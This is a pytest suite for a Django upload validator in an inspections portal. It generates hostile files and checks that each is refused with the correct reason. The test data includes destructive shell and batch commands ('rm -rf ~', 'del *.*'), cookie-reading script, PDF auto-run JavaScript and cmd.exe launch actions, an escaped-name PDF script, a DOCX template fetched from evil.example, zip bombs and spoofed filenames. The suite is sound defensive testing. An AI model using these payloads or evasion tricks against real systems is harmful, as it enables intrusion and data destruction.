"""Upload checks: a hostile corpus generated here, each file refused for the right reason; good files pass."""

import gzip
import hashlib
import io
import struct
import zipfile
import zlib

import pytest
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

from inspections import uploads
from inspections.demo.portal import sample_pdf, sample_photo

# Building blocks ---------------------------------------------------------------------


def make_pdf(objects: list[bytes]) -> bytes:
    """A PDF from object bodies (object 1 is the catalog), with a correct cross-reference table."""
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf_with_open_action(action: bytes) -> bytes:
    return make_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, action])


def pdf_with_hidden_javascript() -> bytes:
    """JavaScript on a link annotation, its names written with #-escapes so no plain token shows."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"
    return make_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page, annotation])


def make_zip(entries: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    data = bytearray(buffer.getvalue())
    if encrypted:
        # zipfile cannot encrypt: set the "encrypted" flag in the local and central headers by hand.
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = data.find(signature)
            while start != -1:
                data[start + offset] |= 0x1
                start = data.find(signature, start + 4)
    return bytes(data)


def content_types(main: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    ).encode()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def docx(extra_entries: dict | None = None, main: str = DOCX_MAIN, extra_types: str = "") -> bytes:
    entries = {
        "[Content_Types].xml": content_types(main, extra_types),
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": DOCUMENT,
    }
    entries.update(extra_entries or {})
    return make_zip(entries)


def xlsx() -> bytes:
    workbook = Workbook()
    workbook.active["A1"] = "Bảng điểm tự chấm"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsm_content_types(data: bytes) -> bytes:
    """An XLSX whose workbook is declared macro-enabled (an .xlsm renamed .xlsx)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    entries = {name: source.read(name) for name in source.namelist()}
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return make_zip(entries)


def odf(mimetype: str, content: bytes = b"<office:document-content/>", extra: dict | None = None) -> bytes:
    entries = {
        "mimetype": mimetype.encode(),
        "content.xml": content,
        "META-INF/manifest.xml": b"<manifest:manifest/>",
    }
    entries.update(extra or {})
    return make_zip(entries)


ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def image_bytes(fmt: str, size=(60, 40)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header that claims a huge picture: a decompression bomb needs nothing more to be refused."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def refusal_code(name: str, data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        uploads.inspect_upload(upload(name, data))
    return caught.value.code


# The corpus ---------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PE = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200

HOSTILE = [
    ("trang-web.html", lambda: HTML, "html"),
    ("bien-ban.pdf", lambda: HTML, "html"),
    ("so-do.svg", lambda: SVG, "svg"),
    ("anh.png", lambda: SVG, "svg"),
    ("cai-dat.sh", lambda: b"#!/bin/sh\nrm -rf ~\n", "script"),
    ("ghi-chu.pdf", lambda: b"#!/usr/bin/env python\nimport os\n", "script"),
    ("tien-ich.js", lambda: b"alert(document.cookie)", "script"),
    ("chay.bat", lambda: b"@echo off\r\ndel *.*\r\n", "script"),
    ("setup.exe", lambda: PE, "executable"),
    ("bao-cao.pdf", lambda: PE, "executable"),
    ("bao-cao.docx", lambda: ELF, "executable"),
    ("ho-so.zip", lambda: make_zip({"a.txt": b"hello"}), "archive"),
    ("ke-hoach.docx", lambda: make_zip({"a.txt": b"hello"}), "archive"),
    ("sao-luu.pdf", lambda: gzip.compress(b"hello" * 100), "archive"),
    ("ho-so.rar", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, "archive"),
    ("ho-so.pdf", lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 64, "archive"),
    ("van-ban.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "macro"),
    ("van-ban.docx", lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    ("bang-diem.xlsx", lambda: xlsm_content_types(xlsx()), "macro"),
    ("van-ban.docm", lambda: docx(), "macro"),
    ("bang-diem.xlsm", lambda: xlsx(), "macro"),
    (
        "mau.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                b'TargetMode="External"/></Relationships>'
            }
        ),
        "macro",
    ),
    ("bien-ban.odt", lambda: odf(ODT, extra={"Basic/Standard/Module1.xml": b"<script:module/>"}), "macro"),
    (
        "bien-ban.odt",
        lambda: odf(ODT, b'<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        "macro",
    ),
    ("bang-diem.ods", lambda: odf(ODS, extra={"Scripts/python/run.py": b"import os"}), "macro"),
    ("js.pdf", lambda: pdf_with_open_action(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf_active"),
    ("mo.pdf", lambda: pdf_with_open_action(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_active"),
    ("an.pdf", pdf_with_hidden_javascript, "pdf_active"),
    (
        "nhieu-phan.docx",
        lambda: docx({f"word/media/p{i}.xml": b"x" for i in range(django_settings.UPLOAD_MAX_OFFICE_ENTRIES)}),
        "office_bounds",
    ),
    ("bom.png", lambda: png_claiming(100_000, 100_000), "pixels"),
    ("anh.pdf", lambda: image_bytes("PNG"), "mismatch"),
    ("anh.jpg", lambda: image_bytes("PNG"), "mismatch"),
    ("scan.docx", lambda: sample_pdf(title="Biên bản", lines=["Nội dung"]), "mismatch"),
    ("bang.xlsx", lambda: docx(), "mismatch"),
    ("ghi-chu.txt", lambda: "Ghi chú của xã".encode(), "unsupported"),
    ("cu.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "unsupported"),
    ("ban-cu.pdf", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "unsupported"),
    ("trinh-chieu.odt", lambda: odf("application/vnd.oasis.opendocument.presentation"), "unsupported"),
    ("rong.pdf", lambda: b"", "empty"),
    ("hong.pdf", lambda: b"%PDF-1.4\n garbage without objects", "damaged"),
    ("hong.png", lambda: image_bytes("PNG")[:40], "damaged"),
    ("khoa.docx", lambda: make_zip({"[Content_Types].xml": content_types(DOCX_MAIN)}, encrypted=True), "encrypted"),
]


@pytest.mark.parametrize(("name", "build", "code"), HOSTILE, ids=[f"{c}:{n}" for n, _b, c in HOSTILE])
def test_hostile_file_is_refused_for_the_right_reason(name, build, code):
    assert refusal_code(name, build()) == code


def test_every_refusal_names_the_file_and_says_what_to_do():
    with pytest.raises(ValidationError) as caught:
        uploads.inspect_upload(upload("Biên bản họp.html", HTML))
    message = caught.value.messages[0]
    assert "Biên bản họp.html" in message and "PDF" in message


def test_office_file_unpacking_beyond_the_bound_is_refused(settings):
    settings.UPLOAD_MAX_OFFICE_UNPACKED_MB = 1
    bomb = docx({"word/media/zeros.bin": b"\0" * (2 * 1024 * 1024)})
    assert len(bomb) < 20_000
    assert refusal_code("bom-zip.docx", bomb) == "office_bounds"


def test_picture_beyond_the_pixel_limit_is_refused(settings):
    settings.UPLOAD_MAX_IMAGE_PIXELS = 1_000_000
    assert refusal_code("anh-lon.jpg", image_bytes("JPEG", size=(1200, 1000))) == "pixels"
    assert uploads.inspect_upload(upload("anh-nho.jpg", image_bytes("JPEG", size=(1000, 1000)))).kind == "jpeg"


def test_file_over_the_limit_is_refused_even_when_handed_over_whole(settings):
    settings.UPLOAD_MAX_FILE_MB = 1
    assert refusal_code("lon.pdf", b"%PDF-1.4\n" + b"0" * (1024 * 1024)) == "too_large"


GOOD = [
    ("Biên bản kiểm tra.pdf", lambda: sample_pdf(title="Biên bản", lines=["Nội dung"]), "pdf", "application/pdf"),
    ("Ảnh một cửa.JPG", lambda: sample_photo(caption="Bộ phận một cửa"), "jpeg", "image/jpeg"),
    ("so-do.png", lambda: image_bytes("PNG"), "png", "image/png"),
    ("Quyết định.docx", docx, "docx", uploads.KINDS["docx"].content_type),
    ("Bảng điểm.xlsx", xlsx, "xlsx", uploads.KINDS["xlsx"].content_type),
    ("Báo cáo.odt", lambda: odf(ODT), "odt", uploads.KINDS["odt"].content_type),
    ("Bảng tính.ods", lambda: odf(ODS), "ods", uploads.KINDS["ods"].content_type),
]


@pytest.mark.parametrize(("name", "build", "kind", "content_type"), GOOD, ids=[g[2] for g in GOOD])
def test_allowed_file_is_accepted_with_its_true_type_size_and_digest(name, build, kind, content_type):
    data = build()
    checked = uploads.inspect_upload(SimpleUploadedFile(name, data, content_type="text/html"))
    assert checked.kind == kind
    assert checked.content_type == content_type  # from the content, never from what the browser claimed
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.original_name == name


def test_pdf_with_harmless_links_and_outlines_is_accepted():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>"
    outlines = b"<< /Type /Outlines /Count 0 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://tanhiep.kiengiang.gov.vn) >> >>"
    data = make_pdf([catalog, PAGES, page, outlines, link])
    assert uploads.inspect_upload(upload("co-lien-ket.pdf", data)).kind == "pdf"


def test_original_name_loses_folders_and_direction_tricks_but_keeps_vietnamese():
    assert uploads.clean_original_name("C:\\Users\\xa\\Biên bản số 1.pdf") == "Biên bản số 1.pdf"
    assert uploads.clean_original_name("../../etc/passwd") == "passwd"
    # U+202E would show "evil‮fdp.exe" as "evilexe.pdf".
    assert uploads.clean_original_name("evil\u202efdp.exe") == "evilfdp.exe"
    assert uploads.clean_original_name("Bie\u0302n ba\u0309n.pdf") == "Biên bản.pdf"
    nameless = uploads.clean_original_name(".pdf")
    assert nameless.endswith(".pdf") and len(nameless) > len(".pdf")
    assert len(uploads.clean_original_name("a" * 400 + ".pdf")) == 200


def test_ascii_stand_in_name_for_old_browsers():
    assert uploads.ascii_file_name("Đơn đề nghị “gấp”.pdf") == "Don de nghi gap.pdf"
